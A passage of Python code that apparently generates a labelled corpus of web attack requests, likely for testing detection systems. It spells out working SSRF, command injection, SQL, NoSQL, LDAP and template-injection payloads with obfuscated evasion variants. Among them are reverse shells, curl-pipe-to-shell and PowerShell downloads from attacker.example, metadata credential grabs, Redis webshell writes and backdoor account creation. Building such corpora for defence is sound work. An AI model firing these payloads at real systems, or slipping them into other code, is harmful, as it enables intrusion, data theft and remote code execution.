    a("xml", "http://10.10.0.12:8080/manager/html", path="/services/ImageService", param="imageUrl", xml_style=1)
    a("path", "http://127.0.0.1:8080/admin", path_tpl="/proxy/{}")
    a("path", "169.254.169.254/latest/meta-data/", path_tpl="/img-resize/300x200/{}", path_safe="/")
    a("json", "http://localhost:15672/api/users", path="/api/notifications/channels", param="webhook", deep=True)
    a("query", "http://0.0.0.0:8001/api/v1/pods", path="/api/preview", param="link")
    a("form", "ldap://127.0.0.1:389/dc=corp,dc=local", path="/admin/directory/test", param="server_url")
    a("json", "http://192.168.1.1:80/", path="/api/scan", param="host_url")
    a(
        "query",
        "http://metadata/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
        path="/api/thumbnail",
        param="image",
    )
    a("json", "http://127.0.0.1:4040/api/requests/http", path="/api/embeds", param="oembed_url")
    # hard
    a("query", "http://%d/latest/meta-data/" % ip_int(META_IP), True, path="/api/v1/preview", param="url")
    a("json", "http://%s/latest/meta-data/iam/info" % ip_hex(META_IP), True, path="/api/webhooks", param="target")
    a("query", "http://%s/latest/user-data" % ip_oct_dotted(META_IP), True, path="/proxy", param="u")
    a("query", "http://169.254.%d/latest/meta-data/" % (169 * 256 + 254), True, path="/image", param="src")
    a("json", "http://%s/latest/meta-data/" % ip_v6mapped(META_IP), True, path="/api/link-preview", param="url")
    a("form", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/admin", True, path="/tools/check-url", param="url")
    a("query", "http://127.1:6379/info", True, path="/api/fetch", param="url")
    a("json", "http://7f000001.a9fea9fe.rbndr.us:8080/latest/meta-data/", True, path="/api/monitors", param="check_url")
    a("query", "http://169.254.169.254.nip.io/latest/meta-data/", True, path="/api/thumbnail", param="image")
    a(
        "json",
        "http://trusted.example.com@169.254.169.254/latest/meta-data/",
        True,
        path="/api/webhooks",
        param="target",
    )
    a("query", "http://169.254.169.254\\@cdn.example.com/latest/meta-data/", True, path="/proxy", param="u")
    a("json", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460:8080/admin", True, path="/api/preview", param="url")
    a(
        "form",
        "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3:2375/info",
        True,
        path="/settings/webhook",
        param="callback_url",
    )
    a(
        "query",
        "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:%3Calerts@example.com%3E%0D%0ARCPT%20TO:%3Cvictim@example.org%3E%0D%0ADATA%0D%0ASubject:%20hi%0D%0A%0D%0Aclick%0D%0A.%0D%0AQUIT%0D%0A",
        True,
        path="/api/fetch",
        param="url",
        enc="pct20",
    )
    a("query", "http://0x7f.0x0.0x0.0x1:6379/", True, path="/download", param="file_url")
    a(
        "json",
        "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
        True,
        path="/api/integrations/test",
        param="endpoint",
    )
    a("query", pct_once("http://169.254.169.254/latest/meta-data/"), True, path="/api/v1/preview", param="url")
    a("query", "netdoc:///etc/passwd", True, path="/api/xml/fetch", param="location")
    a(
        "json",
        "http://metadata.google.internal./computeMetadata/v1/instance/hostname",
        True,
        path="/api/hooks",
        param="url",
        esc=set(".:/"),
    )
    a(
        "header",
        "http://0177.0.0.1:8080/admin",
        True,
        hdr="X-Callback-Url",
        path="/api/exports",
        method="POST",
        body_override=("application/json", '{"type":"full"}'),
    )
    return a.rows


# ----------------------------------------------------------------- rce ----
def cat_rce(r):
    a = L()
    a("query", "127.0.0.1; id", path="/api/diagnostics/ping", param="host")
    a("query", "8.8.8.8 | cat /etc/passwd", path="/tools/ping.php", param="ip")
    a("json", "example.com && whoami", path="/api/network/dns-lookup", param="domain")
    a("form", "$(id)", path="/cgi-bin/status", param="iface")
    a("query", "`uname -a`", path="/api/tools/traceroute", param="target")
    a("json", "report.pdf || curl http://attacker.example/i.sh | sh", path="/api/convert", param="filename")
    a("form", "; wget -qO- http://198.51.100.23/x|sh", path="/admin/backup", param="dest")
    a("query", "127.0.0.1; nc -e /bin/sh 203.0.113.7 4444", path="/cgi-bin/ping.cgi", param="addr")
    a("json", "; bash -i >& /dev/tcp/203.0.113.7/443 0>&1", path="/api/devices/reboot", param="device_name")
    a("query", "127.0.0.1 & whoami", path="/Tools/Ping.aspx", param="host")
    a("form", "report.txt | type C:\\Windows\\win.ini", path="/Admin/ViewLog.aspx", param="log")
    a(
        "json",
        '& powershell -nop -c "iwr http://attacker.example/a.ps1|iex"',
        path="/api/printers/test",
        param="printer",
    )
    a("query", "x | net user svc_backup P@ssw0rd123 /add", path="/cgi-bin/nslookup.exe", param="name")
    a(
        "form",
        "& certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
        path="/admin/tools/dns",
        param="server",
    )
    a("query", "1; ping -c 10 127.0.0.1", path="/api/stats", param="node")
    a("json", "$(sleep 10)", path="/api/printers/jobs", param="job_title", pad=True)
    a("query", "a\ncat /etc/shadow", path="/tools/whois", param="domain")
    a(
        "multipart",
        'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://example.com/image.jpg"|curl -s "http://attacker.example/m" | sh")\'\npop graphic-context\n',
        mp="file",
        fname="avatar.mvg",
        fctype="image/jpeg",
        path="/profile/avatar",
        param="avatar",
    )
    a("json", "--upload-pack=touch /tmp/pwned", path="/api/repos/mirror", param="remote_url")
    a("json", "-oProxyCommand=curl http://attacker.example/s.sh|sh", path="/api/deploy/targets", param="ssh_host")
    a(
        "multipart",
        "--checkpoint-action=exec=sh shell.sh",
        mp="filename",
        fcontent="",
        fctype="application/octet-stream",
        path="/api/backups/files",
        param="file",
    )
    a("header", "() { :; }; /bin/bash -c 'cat /etc/passwd'", hdr="User-Agent", path="/cgi-bin/status.cgi")
    a("header", "() { ignored; }; echo; /usr/bin/id", hdr="Referer", path="/cgi-bin/test.sh")
    a("cookie", "en; curl -s http://attacker.example/c | sh", cookie="lang", path="/cgi-bin/index.cgi")
    a("path", "127.0.0.1;cat /etc/passwd", path_tpl="/api/ping/{}")
    a("xml", "10.0.0.1; id", path="/api/router/diag", param="host")
    a("xml", "x & whoami & ", path="/services/NetworkService", param="Hostname", xml_style=1)
    a("json", "photo.jpg; rm -f /var/www/html/index.html", path="/api/images/resize", param="file", deep=True)
    a("form", "example.org$(curl -s http://attacker.example/d)", path="/admin/dns/check", param="zone")
    a("query", 'x" ; id ; echo "', path="/api/archive/extract", param="name")
    # hard
    a("query", ";${IFS}cat${IFS}/etc/passwd", True, path="/api/diagnostics/ping", param="host")
    a("query", "127.0.0.1;cat$IFS$9/etc/passwd", True, path="/tools/ping.php", param="ip")
    a("json", ";{cat,/etc/passwd}", True, path="/api/network/dns-lookup", param="domain")
    a("form", ";c''at /e\"\"tc/pa\\ss\\wd", True, path="/cgi-bin/status", param="iface")
    a("query", ";/???/c?t /???/p?ss??", True, path="/api/tools/traceroute", param="target")
    a("json", "$(printf '\\151\\144')", True, path="/api/git/branches", param="branch")
    a("query", ";$(echo aWQ= | base64 -d)", True, path="/cgi-bin/ping.cgi", param="addr")
    a("form", ";X=$'\\x69\\x64';$X", True, path="/admin/backup", param="dest")
    a("query", ";a=i;b=d;$a$b", True, path="/api/stats", param="node")
    a("query", pct_once("\ncat /etc/passwd"), True, path="/tools/whois", param="domain")
    a("form", "127.0.0.1 & w^h^o^a^m^i", True, path="/Admin/Ping.aspx", param="host")
    a("json", 'x & cmd /v:on /c "set a=who&&set b=ami&&!a!!b!"', True, path="/api/printers/test", param="printer")
    ps = "IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/r.ps1')"
    a(
        "query",
        "x & powershell -nop -enc " + base64.b64encode(ps.encode("utf-16-le")).decode(),
        True,
        path="/Tools/Ping.aspx",
        param="host",
    )
    a("json", ";cat ${HOME:0:1}etc${HOME:0:1}passwd", True, path="/api/convert", param="filename")
    a("query", ";$(tr a-z n-za-m<<<vq)", True, path="/api/diagnostics/ping", param="host")
    a("form", ";{echo,Y2F0IC9ldGMvcGFzc3dk}|{base64,-d}|sh", True, path="/cgi-bin/status", param="iface")
    a("json", "127.0.0.1\nid", True, esc=set("\n"), path="/api/network/ping", param="host")
    a(
        "header",
        "() { _; } >_[$($())] { /bin/bash -c 'curl -s http://attacker.example/ss|sh'; }",
        True,
        hdr="User-Agent",
        path="/cgi-bin/poll.cgi",
    )
    a("path", "1.1.1.1;w'h'o'a'm'i", True, path_tpl="/api/ping/{}", enc="all")
    a(
        "multipart",
        "a.jpg`curl${IFS}attacker.example|sh`",
        True,
        mp="filename",
        fcontent="\xff\xd8\xff\xe0",
        fctype="image/jpeg",
        path="/api/media/upload",
        param="file",
    )
    return a.rows


# ---------------------------------------------------------------- sqli ----
def cat_sqli(r):
    a = L()
    a("query", "' OR '1'='1' -- ", path="/api/v1/products", param="category")
    a("form", "admin'-- ", path="/login", param="username", form_extra=[("password", "irrelevant")])
    a(
        "query",
        "1 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -",
        path="/api/v2/items",
        param="id",
    )
    a("query", "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -", path="/product.php", param="id")
    a("json", "1 AND updatexml(1,concat(0x7e,(SELECT user())),1)", path="/api/reports/run", param="report_id")
    a("query", "1; WAITFOR DELAY '0:0:5'--", path="/Products/Detail.aspx", param="ProductID")
    a("query", "1' AND SLEEP(5)-- -", path="/api/articles", param="slug")
    a("json", "1; SELECT pg_sleep(5)--", path="/api/metrics/query", param="dashboard_id")
    a(
        "query",
        "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)--",
        path="/api/customers",
        param="email",
    )
    a("query", "' UNION SELECT banner,NULL FROM v$version--", path="/hr/employees", param="dept")
    a("form", "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--", path="/hr/search", param="last_name")
    a("query", "'||UTL_INADDR.get_host_name((SELECT user FROM dual))||'", path="/hr/lookup", param="code")
    a("query", "' UNION SELECT name, sql FROM sqlite_master--", path="/api/notes", param="tag")
    a("json", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))", path="/api/mobile/sync", param="since_id")
    a("query", "1'; EXEC xp_cmdshell 'whoami'--", path="/Reports/View.aspx", param="rid")
    a(
        "form",
        "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))",
        path="/Account/Orders",
        param="orderId",
    )
    a("query", "1 AND 1=CAST((SELECT current_user) AS int)", path="/api/v1/invoices", param="customer_id")
    a(
        "json",
        "x'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/pg|sh'--",
        path="/api/tags",
        param="name",
    )
    a(
        "query",
        "(CASE WHEN (SELECT substring(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE email END)",
        path="/api/users",
        param="order",
    )
    a("query", "id DESC, (SELECT 1 FROM (SELECT SLEEP(5))x)", path="/api/products", param="sort")
    a("form", "bob' UNION SELECT password FROM users WHERE username='admin'-- ", path="/register", param="display_name")
    a("json", "x', (SELECT password FROM users LIMIT 1))-- -", path="/api/feedback", param="comment")
    a("header", "1.2.3.4' AND SLEEP(5)-- -", hdr="X-Forwarded-For", path="/api/login")
    a(
        "cookie",
        "xyz' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='administrator')='a",
        cookie="TrackingId",
        path="/",
    )
    a("query_key", "filter[price) OR (1=1]", keyval="10", path="/api/catalog")
    a("json_key", "name' = 'x' OR 1=1 -- ", keyval="a", path="/api/v1/records/search", param="where")
    a("multipart", "1' UNION SELECT 1,@@version,3-- -", mp="field", path="/upload/metadata", param="album_id")
    a("xml", "' OR 1=1 OR 'a'='", path="/services/AuthService", param="username", xml_style=1)
    a("path", "5' AND 1=1 UNION SELECT null,password FROM users-- ", path_tpl="/api/v1/orders/{}")
    a("json", "' OR 1=1 -- ", path="/api/posts", param="author", pad=True)
    # hard
    a("query", "'/**/OR/**/1=1#", True, path="/api/v1/products", param="category")
    a("query", "1'/*!50000UNION*//*!50000SELECT*/1,user(),3-- -", True, path="/product.php", param="id")
    a("query", "' UnIoN SeLeCt NuLl,CoNcAt(username,0x3a,password) FrOm users-- -", True, path="/search", param="q")
    a("query", pct_once(pct_once("' OR 1=1-- ")), True, path="/api/customers", param="email")
    a("form", "'\x0bOR\x0b1=1--\x0b", True, path="/login", param="username", form_extra=[("password", "x")])
    a(
        "query",
        "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
        True,
        path="/api/articles",
        param="id",
    )
    a("json", "' or 1 like 1#", True, path="/api/auth/login", param="username")
    a(
        "query",
        "'||(SELECT CHR(65)||CHR(66) FROM dual WHERE (SELECT COUNT(*) FROM all_users)>0)||'",
        True,
        path="/hr/lookup",
        param="code",
    )
    a("query", "1 /*!12345AND*/ 0x31=0x31", True, path="/api/items", param="id")
    a(
        "query",
        "1';DECLARE @q VARCHAR(99);SET @q=0x%s;EXEC(@q)--" % "waitfor delay '0:0:5'".encode().hex(),
        True,
        path="/Reports/View.aspx",
        param="rid",
    )
    a("json", "1;SELECT $$a$$ FROM pg_sleep(5)--", True, path="/api/metrics/query", param="dashboard_id")
    a("query", "-1 union select\\N,table_name,3 from information_schema.tables", True, path="/api/v2/items", param="id")
    a("form", "\uff07 OR 1=1--", True, path="/Account/Search", param="q")
    a("json", "' OR 1=1-- ", True, esc=set("' =-"), path="/api/users/find", param="username")
    a("query", "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -", True, path="/api/v1/products", param="brand")
    a("query", "1 AND (SELECT 1)=1 --\n", True, path="/api/articles", param="id", enc="all")
    a("query", "'||(SELECT pg_sleep(5))::text||'", True, path="/api/customers", param="ref")
    a(
        "json",
        "' AND unicode(substr((SELECT sql FROM sqlite_master),1,1))>0--",
        True,
        path="/api/mobile/notes",
        param="title",
        deep=True,
    )
    a("cookie", b64("1 OR 1=1"), True, cookie="uid", path="/account")
    a(
        "header",
        "' AND (SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual) IS NOT NULL--",
        True,
        hdr="X-Client-Ref",
        path="/api/session",
    )
    return a.rows


# -------------------------------------------------------------- nosqli ----
def cat_nosqli(r):
    a = L()
    a(
        "json",
        '{"$ne":null}',
        raw=True,
        doc={"username": "admin", "password": PH},
        path="/api/auth/login",
        method="POST",
    )
    a(
        "json",
        '{"$gt":""}',
        raw=True,
        doc={"email": "admin@example.com", "password": PH},
        path="/api/v1/session",
        method="POST",
    )
    a("json", '{"$regex":"^a"}', raw=True, doc={"username": "admin", "password": PH}, path="/api/login", method="POST")
    a(
        "json",
        '{"$in":["admin","root","superuser"]}',
        raw=True,
        doc={"username": PH, "password": {"$ne": "x"}},
        path="/api/login",
        method="POST",
    )
    a(
        "json",
        '{"$exists":true}',
        raw=True,
        doc={"email": "victim@example.com", "resetToken": PH, "newPassword": "Winter2026!"},
        path="/api/password/reset",
        method="POST",
    )
    a(
        "json",
        '{"$where":"sleep(5000) || true"}',
        raw=True,
        doc={"filter": PH, "limit": 10},
        path="/api/products/search",
        method="POST",
    )
    a(
        "query_key",
        "username[$ne]",
        keyval="x",
        extra_q=[("password[$ne]", "x")],
        path="/api/users/login",
        no_filler_q=True,
    )
    a(
        "query_key",
        "password[$regex]",
        keyval=".*",
        extra_q=[("username", "admin")],
        path="/login",
        no_filler_q=True,
        q_pos=1,
    )
    a(
        "form",
        "password[$ne]",
        as_name=True,
        keyval="1",
        form_extra=[("username", "admin")],
        path="/login",
        f_pos=1,
        no_filler_form=True,
    )
    a(
        "form",
        "user[$gt]",
        as_name=True,
        keyval="",
        form_extra=[("pass[$gt]", "")],
        path="/signin",
        f_pos=0,
        no_filler_form=True,
    )
    a("query_key", "role[$nin][]", keyval="user", path="/api/accounts")
    a("query", "admin' || 'a'=='a", path="/api/profile", param="user")
    a("query", "'; return true; var x='", path="/api/products", param="name")
    a("json", "0 || sleep(5000)", path="/api/members/filter", param="min_age")
    a(
        "json",
        '{"$where":"function(){var d=new Date();do{var c=new Date();}while(c-d<5000);return true;}"}',
        raw=True,
        path="/api/orders/find",
        param="query",
    )
    a(
        "json",
        '[{"$lookup":{"from":"users","localField":"owner","foreignField":"_id","as":"u"}},{"$project":{"u.password":1,"u.email":1}}]',
        raw=True,
        path="/api/analytics/aggregate",
        param="pipeline",
    )
    a(
        "json",
        '{"$expr":{"$eq":[{"$substrCP":["$password",0,1]},"a"]}}',
        raw=True,
        path="/api/users/count",
        param="filter",
    )
    a(
        "json",
        '[{"$group":{"_id":"$passwordHash","n":{"$sum":1}}}]',
        raw=True,
        path="/api/reports/aggregate",
        param="stages",
    )
    a(
        "query",
        'foo\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename shell.php\r\nSET x "<?php system($_GET[c]);?>"\r\nSAVE\r\n',
        path="/api/cache/get",
        param="key",
    )
    a("form", "sess:abc\r\nSLAVEOF 203.0.113.7 6379\r\n", path="/session/touch", param="session_key")
    a("query", "' OR 1=1 WITH 1 AS x MATCH (n) RETURN n//", path="/api/graph/people", param="name")
    a("json", "x' RETURN n UNION MATCH (u:User) RETURN u.password AS name //", path="/api/graph/search", param="title")
    a(
        "query",
        "' OR 1=1 WITH 1 AS a CALL db.labels() YIELD label LOAD CSV FROM 'http://attacker.example/?l='+label AS b RETURN b//",
        path="/api/graph/nodes",
        param="q",
    )
    a(
        "json",
        '{"password_scheme":{"$exists":true}}',
        raw=True,
        doc={"selector": PH, "fields": ["name", "derived_key", "salt"]},
        path="/api/docs/_find",
        method="POST",
    )
    a("cookie", 'j:{"$ne":null}', cookie="user_id", path="/api/me")
    a("header", '{"$regex":".*"}', hdr="X-Tenant-Filter", path="/api/v1/invoices")
    a("path", "admin' || '1'=='1", path_tpl="/api/users/{}")
    a("multipart", '{"owner":{"$ne":null}}', mp="field", path="/api/files/search", param="filter")
    a("xml", "' || this.role == 'admin' || '", path="/api/soap/users", param="username")
    a(
        "json_key",
        "$where",
        keyval="this.isAdmin == true || sleep(3000)",
        doc={"filter": {PH: ""}, "page": 1},
        path="/api/users/query",
    )
    # hard
    a(
        "json",
        '{"$ne":null}',
        True,
        raw=True,
        doc={"username": "admin", "password": PH},
        esc_map={"$ne": set("$")},
        path="/api/auth/login",
        method="POST",
    )
    a(
        "json",
        '{"$gt":""}',
        True,
        raw=True,
        doc={"login": "root", "secret": PH},
        esc_map={"$gt": set("$gt")},
        path="/api/v2/login",
        method="POST",
    )
    a(
        "query_key",
        "password[$regex]",
        True,
        keyval="^s3",
        extra_q=[("user", "admin")],
        enc="all",
        path="/login",
        no_filler_q=True,
        q_pos=1,
    )
    a(
        "query_key",
        "username[$regex]",
        True,
        keyval="^adm",
        extra_q=[("username[$options]", "i"), ("password[$ne]", "")],
        path="/api/session",
        no_filler_q=True,
        q_pos=0,
    )
    a(
        "json",
        '{"$where":"this[\\"pass\\"+\\"word\\"].match(/^a/)"}',
        True,
        raw=True,
        path="/api/notes/filter",
        param="filter",
    )
    a("json", '{"$where":"\\\\u0073leep(5000)"}', True, raw=True, path="/api/catalog/find", param="criteria")
    a(
        "json",
        '{"$not":{"$regex":"^$"}}',
        True,
        raw=True,
        doc={"username": "admin", "password": PH},
        path="/api/login",
        method="POST",
    )
    a(
        "json",
        '[{"$unionWith":{"coll":"users","pipeline":[{"$project":{"email":1,"passwordHash":1}}]}}]',
        True,
        raw=True,
        path="/api/analytics/aggregate",
        param="pipeline",
    )
    a(
        "json",
        '{"$jsonSchema":{"required":["password"],"properties":{"password":{"pattern":"^\\\\$2b\\\\$10\\\\$a"}}}}',
        True,
        raw=True,
        path="/api/users/exists",
        param="match",
    )
    a("query", pct_once("k\r\nCONFIG SET dir /root/.ssh\r\n"), True, path="/api/cache/get", param="key")
    a("json", "x' OR 1=1 RETURN n //", True, esc=set("'="), path="/api/graph/search", param="title")
    a("query", "'}) MATCH (u:User) RETURN u.email, u.password /*", True, path="/api/graph/person", param="id")
    a(
        "json",
        '{"$expr":{"$function":{"body":"function(){var d=Date.now();while(Date.now()-d<5000){};return true}","args":[],"lang":"js"}}}',
        True,
        raw=True,
        path="/api/items/filter",
        param="where",
    )
    a(
        "json",
        "{\"$where\":\"return (typeof this.apiKey=='string' && this.apiKey[0]=='s')\"}",
        True,
        raw=True,
        path="/api/keys/search",
        param="q",
    )
    a(
        "form",
        "login[$ne]",
        True,
        as_name=True,
        keyval="x",
        form_extra=[("pwd[$ne]", "x")],
        enc="all",
        path="/auth",
        no_filler_form=True,
    )
    a("cookie", 'j:{"password":{"$regex":"^.*"}}', True, cookie="auth", enc="all", path="/account")
    a(
        "multipart",
        '{"$or":[{"role":"admin"},{"_id":{"$exists":true}}]}',
        True,
        mp="field",
        path="/api/users/export",
        param="query",
    )
    a("query", "sess:1\nDEL rate_limit:login\nSET role:42 admin\n", True, path="/api/cache/touch", param="key")
    a(
        "json_key",
        "$where",
        True,
        keyval="sleep(4000)||1",
        esc_map={"$where": set("$w")},
        deep=True,
        path="/api/search/advanced",
        param="criteria",
    )
    a("path", "0 OR 1=1 WITH 1 AS a MATCH (u) RETURN u", True, path_tpl="/api/graph/nodes/{}", enc="all")
    return a.rows


# --------------------------------------------------------------- ldapi ----
def cat_ldapi(r):
    a = L()
    lp = "/ldap/login"
    a("form", "*", form_extra=[("password", "*")], path=lp, param="username", f_pos=0, no_filler_form=True)
    a(
        "form",
        "admin)(&)",
        form_extra=[("password", "anything")],
        path=lp,
        param="username",
        f_pos=0,
        no_filler_form=True,
    )
    a("query", "*)(uid=*))(|(uid=*", path="/directory/search", param="user")
    a("form", "admin)(|(password=*))", path="/auth/ldap", param="uid", form_extra=[("pwd", "x")])
    a("query", "*)(objectClass=*", path="/api/people", param="cn")
    a("json", "admin)(|(userPassword=*)", path="/api/auth", param="username")
    a("query", "x)(|(cn=*)", path="/phonebook", param="name")
    a("json", "*)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example)", path="/api/groups/members", param="filter")
    a("form", "admin)(!(&(1=0)", path=lp, param="username", form_extra=[("password", "x")])
    a("query", "admin)(userPassword=a*", path="/api/users/check", param="uid")
    a("query", "*)(sn=*)(|(sn=*", path="/directory/search", param="surname")
    a("json", "*))(|(objectClass=*", path="/api/directory/query", param="term")
    a("header", "*)(uid=*", hdr="X-Remote-User", path="/intranet/profile")
    a("cookie", "*)(|(uid=*", cookie="uid", path="/intranet/home")
    a("multipart", "admin)(|(objectClass=*)", mp="field", path="/ldap/import", param="username")
    a("xml", "*)(cn=*))(|(cn=*", path="/services/Directory", param="username", xml_style=1)
    a("path", "admin*)(|(uid=*", path_tpl="/api/directory/users/{}")
    a("query", "*)(sAMAccountName=*))(|(sAMAccountName=*", path="/adsearch", param="account")
    a("query", "*)(description=*pass*", path="/api/people", param="q")
    a("json", "admin)(|(mail=*@*)", path="/api/auth/ldap", param="user")
    a("query", "jdoe)(|(telephoneNumber=*", path="/phonebook", param="name")
    a("form", "*)(givenName=*)(|(givenName=*", path="/directory/find", param="first")
    a("json", "x*)(|(objectClass=person)(uid=adm*", path="/api/directory/query", param="term")
    a("query", "*)(homeDirectory=*", path="/api/accounts/lookup", param="user")
    a("header", "*)(mail=*", hdr="X-Forwarded-User", path="/sso/whoami")
    a("multipart", "*))\x00", mp="field", path="/ldap/bulk", param="uid")
    a("xml", "admin)(|(uidNumber>=0)", path="/api/ldap", param="uid")
    a("cookie", "*)(userAccountControl=*", cookie="ad_user", path="/portal")
    a("query", "*)(ou=*))(|(ou=*", path="/directory/units", param="dept")
    a("json", "*)(unicodePwd=*", path="/api/ad/login", param="login")
    # hard
    a("query", "*)(UsErPaSsWoRd=*", True, path="/directory/search", param="user")
    a("form", "admin)(|(OBJECTCLASS=*)", True, path=lp, param="username", form_extra=[("password", "x")])
    a("query", "*)(2.5.4.3=*", True, path="/api/people", param="cn")
    a("json", "*)(0.9.2342.19200300.100.1.1=adm*", True, path="/api/auth", param="username")
    a("query", "*)(cn:dn:=admin", True, path="/phonebook", param="name")
    a("json", "*)(userAccountControl:1.2.840.113556.1.4.803:=2", True, path="/api/ad/users", param="filter")
    a("form", "*)(cn~=admin", True, path="/directory/find", param="first")
    a("query", "*)(uid>=a", True, path="/api/users/check", param="uid")
    a("query", pct_once("*)(uid=*))(|(uid=*"), True, path="/directory/search", param="user")
    a("json", "*)(|(objectClass=*", True, esc=set("*()|"), path="/api/directory/query", param="term")
    a("query", "admin)\x00", True, path="/api/users/check", param="uid")
    a("cookie", "*)(memberOf=*admin*", True, cookie="uid", enc="all", path="/intranet/home")
    a("header", "*)(ObJeCtCaTeGoRy=*", True, hdr="X-Remote-User", path="/intranet/reports")
    a("xml", "*)(uid=*", True, charref=set("*()"), path="/api/ldap", param="uid")
    a("multipart", "*)(2.5.4.35=*", True, mp="field", path="/ldap/import", param="username")
    a("path", "*)(objectClass=*", True, path_tpl="/api/directory/users/{}", enc="all")
    a("query", "x)(|(sn:caseExactMatch:=Admin)", True, path="/directory/search", param="surname")
    a("json", "*)(&(objectClass=user)(adminCount=1)", True, path="/api/ad/users", param="filter", deep=True)
    a("form", "*)(|(cn=*)(!(cn=x)", True, path="/auth/ldap", param="uid", form_extra=[("pwd", "x")])
    a("query", "*)(pwdLastSet>=0", True, path="/adsearch", param="account", enc="lenient")
    return a.rows


# ---------------------------------------------------------------- ssti ----
HBS = (
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}'
    "{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}"
    "{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}"
    "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"
)


def cat_ssti(r):
    a = L()
    a("query", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", path="/hello", param="name")
    a("json", "{{ config.items() }}", path="/api/emails/preview", param="subject")
    a("form", "{{ lipsum.__globals__['os'].popen('whoami').read() }}", path="/profile/edit", param="bio")
    a(
        "query",
        "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        path="/greet",
        param="msg",
    )
    a(
        "json",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
        path="/api/templates/render",
        param="template",
    )
    a("query", "{{['id']|filter('system')}}", path="/newsletter/preview", param="title")
    a(
        "form",
        '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
        path="/cms/blocks",
        param="content",
    )
    a("json", "{{['cat /etc/passwd']|map('passthru')|join}}", path="/api/mail/templates", param="body")
    a(
        "query",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        path="/report/preview",
        param="header",
    )
    a(
        "json",
        '${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder",["id"]).start()}',
        path="/api/invoices/template",
        param="footer",
    )
    a(
        "form",
        '#set($s="")#set($rt=$s.class.forName("java.lang.Runtime"))#set($p=$rt.getRuntime().exec("id"))$p.waitFor()',
        path="/confluence/template",
        param="body",
    )
    a("query", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", path="/doc", param="section")
    a(
        "json",
        "[[${T(java.lang.Runtime).getRuntime().exec('touch /tmp/th')}]]",
        path="/api/notifications/preview",
        param="message",
    )
    a("json", HBS, path="/api/cards/render", param="text")
    a("form", "<%= `id` %>", path="/pages/preview", param="body")
    a("query", "<%= File.read('/etc/passwd') %>", path="/welcome", param="name")
    a("json", "<%= IO.popen('id').read %>", path="/api/v1/snippets/preview", param="content", pad=True)
    a("query", "{system('id')}", path="/index.php", param="tpl")
    a(
        "form",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
        path="/shop/review",
        param="text",
    )
    a("query", "${__import__('os').popen('id').read()}", path="/render", param="greeting")
    a("json", "<% import os; x=os.popen('id').read() %>${x}", path="/api/reports/title", param="title")
    a(
        "form",
        "#{global.process.mainModule.require('child_process').execSync('id')}",
        path="/cards/new",
        param="message",
    )
    a("query", "{% import os %}{{ os.popen('id').read() }}", path="/tornado/hello", param="name")
    a(
        "json",
        "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.get_username }}:{{ e.user.password }} {% endfor %}",
        path="/api/cms/snippets",
        param="body",
    )
    a(
        "header",
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        hdr="User-Agent",
        path="/",
    )
    a("cookie", "{{ url_for.__globals__.os.environ }}", cookie="display_name", path="/dashboard")
    a(
        "multipart",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("curl -s http://attacker.example/f | sh")}\n',
        mp="file",
        fname="invoice.ftl",
        fctype="text/plain",
        path="/api/templates/upload",
        param="template",
    )
    a(
        "xml",
        '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
        path="/api/letters",
        param="salutation",
    )
    a("path", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}", path_tpl="/hello/{}")
    a(
        "json_key",
        "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
        keyval="blue",
        path="/api/boards/labels",
        param="labels",
    )
    # hard
    a(
        "query",
        '{{ lipsum|attr("\\x5f\\x5fglobals\\x5f\\x5f")|attr("\\x5f\\x5fgetitem\\x5f\\x5f")("os")|attr("popen")("id")|attr("read")() }}',
        True,
        path="/hello",
        param="name",
    )
    a(
        "json",
